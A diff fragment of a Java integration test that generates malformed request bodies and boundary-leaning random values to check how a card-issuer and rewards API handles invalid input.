+    /** Values that break the documented rule for the codes for sure ([A-Za-z0-9]{4,16}). */
+    static JsonNode badCode(SplittableRandom r) {
+        if (r.nextBoolean()) {
+            return pick(r, List.of(NODES.textNode("abc"), NODES.textNode("ab"), NODES.textNode("x".repeat(17)),
+                    NODES.textNode("Code 1"), NODES.textNode("Códe1"), NODES.textNode("code\u0000x"),
+                    NODES.textNode("😀😀😀😀"), NODES.booleanNode(false), NODES.nullNode(), NODES.numberNode(1.25),
+                    NODES.arrayNode(), NODES.objectNode(), NODES.textNode("")));
+        }
+        return NODES.textNode(filtered(r, BadInputIT::hostileString, v -> !v.matches("[A-Za-z0-9]{4,16}")));
+    }
+
+    /** A consumer with a bad account, a card, a publisher or a card account with one bad field (a fresh id each). */
+    static Case creation(SplittableRandom r) {
+        return switch (r.nextInt(4)) {
+            case 0 -> consumerWithABadAccount(r);
+            case 1 -> cardWithABadField(r);
+            case 2 -> publisherWithABadName(r);
+            default -> cardAccountWithABadField(r);
+        };
+    }
+
+    static Case consumerWithABadAccount(SplittableRandom r) {
+        int good = size(r, 0, 5);
+        String id = "bi-" + RUN + "-" + UNIQUE.incrementAndGet();
+        ObjectNode body = NODES.objectNode().put("consumerId", id);
+        ArrayNode accounts = body.putArray("accounts");
+        for (int i = 0; i < good; i++) {
+            accounts.addObject().put("accountId", "BI-" + i);
+        }
+        accounts.addObject().set("accountId", jsonValue(r, 1));
+        return new Case(endpoint("POST", "/issuers/{issuerId}/consumers"),
+                Map.of("created", id, "table", "consumer.consumers:consumer_id"), json(body), new String[0], null,
+                "register with a bad account");
+    }
+
+    static Case cardWithABadField(SplittableRandom r) {
+        String field = pick(r, List.of("consumerId", "accountId", "productType", "customerNumber", "programId",
+                "proxyNumber", "pan"));
+        String id = "BI-" + RUN + "-" + UNIQUE.incrementAndGet();
+        ObjectNode body = NODES.objectNode().put("cardId", id).put("consumerId", "bi-consumer")
+                .put("accountId", "BI-1").put("productType", "DEBIT");
+        body.set(field, jsonValue(r, 1));
+        return new Case(endpoint("POST", "/issuers/{issuerId}/cards"), Map.of("created", id, "table", "card.cards:card_id"),
+                json(body), new String[0], null, "card with a bad " + field);
+    }
+
+    static Case publisherWithABadName(SplittableRandom r) {
+        String id = "bi-" + RUN + "-" + UNIQUE.incrementAndGet();
+        ObjectNode body = NODES.objectNode().put("external_id", id);
+        body.set("name", jsonValue(r, 1));
+        return new Case(endpoint("POST", "/partner/publishers"),
+                Map.of("created", id, "table", "rewards.publishers:external_id"), json(body), new String[0], null,
+                "publisher with a bad name");
+    }
+
+    static Case cardAccountWithABadField(SplittableRandom r) {
+        String field = pick(r, List.of("default_country_code", "default_postal_code", "status", "card_program_id"));
+        String id = "bi-" + RUN + "-" + UNIQUE.incrementAndGet();
+        ObjectNode body = NODES.objectNode().put("card_program_id", "triple-AAAAAAAAAAAAAAAAAAAAAA").put("external_id", id);
+        body.set(field, jsonValue(r, 1));
+        return new Case(endpoint("POST", "/partner/card-accounts"),
+                Map.of("created", id, "table", "rewards.card_accounts:external_id"), json(body), new String[0], null,
+                "card account with a bad " + field);
+    }
+
+    // ---- random primitives --------------------------------------------------------------------------------------
+
+    static <T> T pick(SplittableRandom r, List<T> values) {
+        return values.get(r.nextInt(values.size()));
+    }
+
+    /** A value that passes the filter; gives up after 10,000 misses in a row, so that a filter that is wrong is seen. */
+    static <T> T filtered(SplittableRandom r, Function<SplittableRandom, T> values, Predicate<T> accepted) {
+        for (int i = 0; i < 10_000; i++) {
+            T value = values.apply(r);
+            if (accepted.test(value)) {
+                return value;
+            }
+        }
+        throw new IllegalStateException("10,000 values in a row did not pass the filter");
+    }
+
+    /** A size or count from min to max; the bounds themselves more often than the rest, where defects live. */
+    static int size(SplittableRandom r, int min, int max) {
+        return switch (r.nextInt(8)) {
+            case 0 -> min;
+            case 1 -> max;
+            default -> r.nextInt(min, max + 1);
+        };
+    }
+
+    /** Any long: the extremes and small numbers more often than the rest. */
+    static long anyLong(SplittableRandom r) {
+        return switch (r.nextInt(4)) {
+            case 0 -> pick(r, List.of(Long.MIN_VALUE, Long.MAX_VALUE, 0L, 1L, -1L, (long) Integer.MAX_VALUE + 1,
+                    (long) Integer.MIN_VALUE - 1));
+            case 1 -> r.nextLong(-1000, 1001);
+            default -> r.nextLong();
+        };
+    }
+
+    /** min to max characters from the range [from, to]. */
+    static String chars(SplittableRandom r, char from, char to, int min, int max) {
+        StringBuilder s = new StringBuilder();
+        for (int i = size(r, min, max); i > 0; i--) {
+            s.append((char) r.nextInt(from, to + 1));
+        }
+        return s.toString();
+    }
+
+    static String alphanumeric(SplittableRandom r, int min, int max) {
+        String all = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
+        StringBuilder s = new StringBuilder();
+        for (int i = size(r, min, max); i > 0; i--) {
+            s.append(all.charAt(r.nextInt(all.length())));
+        }
+        return s.toString();
+    }
+
+    /**
+     * Any characters of the Basic Multilingual Plane but the surrogates (a lone one cannot be written as UTF-8), the
+     * private use area and the noncharacters.
+     */
+    static String anyString(SplittableRandom r, int min, int max) {
+        StringBuilder s = new StringBuilder();
+        for (int i = size(r, min, max); i > 0; i--) {
+            char c;
+            do {
+                c = (char) r.nextInt(0, 0x10000);
+            } while (Character.isSurrogate(c) || c >= '\uE000' && c <= '\uF8FF' || c >= '\uFDD0' && c <= '\uFDEF'
+                    || c >= '\uFFFE');
+            s.append(c);
+        }
+        return s.toString();
+    }
+
+    static JsonNode readTree(byte[] json) {
+        try {
+            return SharedStack.JSON.readTree(json);
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
     }
 
     // ---- helpers ------------------------------------------------------------------------------------------------
